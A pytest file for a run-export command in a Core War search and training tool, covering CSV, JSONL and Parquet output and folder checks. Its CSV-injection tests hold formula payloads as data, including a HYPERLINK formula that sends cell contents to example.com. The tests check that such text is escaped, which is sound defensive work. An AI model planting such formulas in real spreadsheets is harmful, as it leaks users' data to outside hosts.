"""`shoal export`: tables that other programs read, programs that assemble, and texts that stay texts."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path
from typing import Any

import msgspec
import pytest

from shoal.corewar import Settings, assemble
from shoal.runs import Journal, read
from shoal.runs.tables import as_cell, write_table
from shoal.train.crew import run as run_training
from tests.cli.conftest import Shoal
from tests.evolve.small import RULES
from tests.train.small import small

FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\n=1", "＝1")


def lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_a_search_as_csv(shoal: Shoal, search_run: Path, tmp_path: Path) -> None:
    out = tmp_path / "new" / "folder"
    done = shoal("export", search_run, "--out", out)
    assert done.code == 0, done.err
    assert done.out.split() == [str(out / name) for name in ("elites.csv", "events.csv", "programs")]
    summary = json.loads(shoal("show", search_run, "--json").out)
    elites = cells(out / "elites.csv")
    assert [tuple(map(int, row["cell"].split())) for row in elites] == [
        tuple(cell["cell"]) for cell in summary["cells_common"]
    ]
    assert [float(row["fitness"]) for row in elites] == [cell["fitness"] for cell in summary["cells_common"]]
    events = cells(out / "events.csv")
    assert {row["node"] for row in events} == {"1-bomber", "2-random"}
    last = {row["node"]: int(row["calls"]) for row in events}
    assert sum(last.values()) == 40


def test_exported_warriors_assemble_again(shoal: Shoal, search_run: Path, tmp_path: Path) -> None:
    assert shoal("export", search_run, "-o", tmp_path, "--format", "jsonl").code == 0
    elites = lines(tmp_path / "elites.jsonl")
    assert elites
    assert {f"programs/{path.name}" for path in (tmp_path / "programs").iterdir()} == {
        row["file"] for row in elites
    }
    rules = Settings(**RULES)
    for row in elites:
        assert len(assemble((tmp_path / row["file"]).read_text(), rules)) >= 1


def test_training_as_jsonl(shoal: Shoal, training_run: Path, tmp_path: Path) -> None:
    assert shoal("export", training_run, "-o", tmp_path, "--format", "jsonl").code == 0
    steps = lines(tmp_path / "steps.jsonl")
    assert [(row["node"], row["step"]) for row in steps] == [
        (name, step) for name in ("1-table-small", "2-table-even", "3-table-wide") for step in range(1, 7)
    ]
    evaluations = lines(tmp_path / "evaluations.jsonl")
    assert [row["step"] for row in evaluations if row["node"] == "1-table-small"] == [0, 3, 6]
    rollouts = lines(tmp_path / "rollouts.jsonl")
    assert len(rollouts) == sum(row["own"] for row in steps) * 4
    assert {row["score"] for row in rollouts} <= {0.0, 1.0}
    shown = json.loads(shoal("show", training_run, "--rollout", "1:2", "--json").out)["groups"][0]
    first = [row for row in rollouts if (row["node"], row["turn"]) == ("1-table-small", 2)][:4]
    assert [row["completion"] for row in first] == [one["text"] for one in shown["completions"]]


def test_parquet(shoal: Shoal, training_run: Path, tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    assert shoal("export", training_run, "-o", tmp_path / "p", "--format", "parquet").code == 0
    assert shoal("export", training_run, "-o", tmp_path / "j", "--format", "jsonl").code == 0
    for name in ("steps", "evaluations", "rollouts"):
        assert parquet.read_table(tmp_path / "p" / f"{name}.parquet").to_pylist() == lines(
            tmp_path / "j" / f"{name}.jsonl"
        )


def test_the_newest_checkpoint_of_each_node_is_exported(shoal: Shoal, tmp_path: Path) -> None:
    run = tmp_path / "run"
    settings = small(nodes=1, models=("table:small",), steps=4, checkpoint_every=2, evaluate_every=0)
    assert run_training(settings, run, in_process=True) == "finished"
    newest = sorted((run / "nodes" / "1-table-small").glob("checkpoint-*"))[-1] / "policy"
    assert shoal("export", run, "-o", tmp_path / "out").code == 0
    exported = tmp_path / "out" / "models" / "1-table-small"
    assert {path.name: path.read_bytes() for path in exported.iterdir()} == {
        path.name: path.read_bytes() for path in newest.iterdir()
    }


def test_a_folder_with_something_in_it_is_refused(shoal: Shoal, search_run: Path, tmp_path: Path) -> None:
    (tmp_path / "thesis.tex").write_text("mine")
    done = shoal("export", search_run, "-o", tmp_path)
    assert done.code == 2
    assert "is not empty: name a new folder" in done.err
    assert [path.name for path in tmp_path.iterdir()] == ["thesis.tex"]
    assert shoal("export", search_run, "-o", tmp_path / "thesis.tex").code == 2
    done = shoal("export", search_run, "-o", tmp_path / "new", "--format", "xlsx")
    assert done.code == 2
    assert "choose csv, jsonl or parquet" in done.err
    assert not (tmp_path / "new").exists()


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_looks_like_a_formula_stays_text_in_csv(text: str, tmp_path: Path) -> None:
    rows = [{"completion": text, "score": -1.5}]
    write_table(tmp_path / "t.csv", rows, "csv")
    assert cells(tmp_path / "t.csv") == [{"completion": f"'{text}", "score": "-1.5"}]
    write_table(tmp_path / "t.jsonl", rows, "jsonl")
    assert lines(tmp_path / "t.jsonl") == rows, "other formats have no formulas"


def test_other_values_are_left_alone() -> None:
    for value in ("plain", "a=b", "", -1, -0.5, None, True, "{}", "'=1"):
        assert as_cell(value) == value


def test_a_strangers_text_in_an_exported_run(shoal: Shoal, training_run: Path, tmp_path: Path) -> None:
    run = tmp_path / "copy"
    shutil.copytree(training_run, run)
    path = run / "nodes" / "1-table-small" / "journal.jsonl"
    records = list(read(path))
    path.unlink()
    hostile = '=HYPERLINK("http://example.com?"&A1,"x")\n"quoted",\x1b[31m\u2028end'
    with Journal(path) as journal:
        for record in records:
            payload = msgspec.json.decode(record.payload)
            if record.kind == "answered" and payload["turn"] == 2:
                payload["answer"]["groups"][0]["completions"][0]["text"] = hostile
            journal.append(record.kind, record.time, payload)
    assert shoal("export", run, "-o", tmp_path / "out").code == 0
    rows = cells(tmp_path / "out" / "rollouts.csv")
    assert rows[0]["completion"] == f"'{hostile}"
    assert len(rows) == len(cells(tmp_path / "out" / "steps.csv")) * 16, "no row was split"
